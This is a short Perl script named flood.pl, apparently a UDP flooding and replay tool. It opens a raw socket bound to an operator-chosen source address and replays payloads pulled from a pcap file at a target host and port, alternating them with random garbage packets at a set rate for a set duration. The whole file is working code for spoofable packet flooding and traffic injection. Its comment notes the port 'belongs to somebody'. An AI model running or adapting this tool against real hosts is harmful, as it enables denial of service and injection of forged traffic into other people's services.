# perl flood.pl FROM TO PORT RATE SECONDS PCAP: sends UDP packets from FROM:PORT to TO:PORT, RATE a second: in turns garbage and
# the payloads of the Ethernet packets in PCAP. A raw socket, because the port belongs to somebody.
use strict;
use warnings;
use Socket;
use Time::HiRes qw(time sleep);
my ($from, $to, $port, $rate, $seconds, $pcap) = @ARGV;
open my $file, '<:raw', $pcap or die "$pcap: $!\n";
read $file, my $head, 24;
my @said;
while (read($file, $head, 16) == 16) {
    read $file, my $frame, (unpack 'VVVV', $head)[2];
    push @said, substr $frame, 14 + 20 + 8;
}
die "nothing was said in $pcap\n" unless @said;
socket my $raw, AF_INET, SOCK_RAW, 17 or die "socket: $!\n";
bind $raw, sockaddr_in(0, inet_aton($from)) or die "bind $from: $!\n";
my $target = sockaddr_in($port, inet_aton($to));
my @packets = map { pack('nnnn', $port, $port, 8 + length, 0) . $_ } map { $_, join '', map { chr int rand 256 } 1 .. 60 } @said;
my ($begin, $sent) = (time, 0);
while ((my $age = time - $begin) < $seconds) {
    while ($sent < $age * $rate) {
        send $raw, $packets[$sent++ % @packets], 0, $target;
    }
    sleep 0.002;
}
printf "%d packets in %d s, %d of them said before\n", $sent, $seconds, scalar @said;
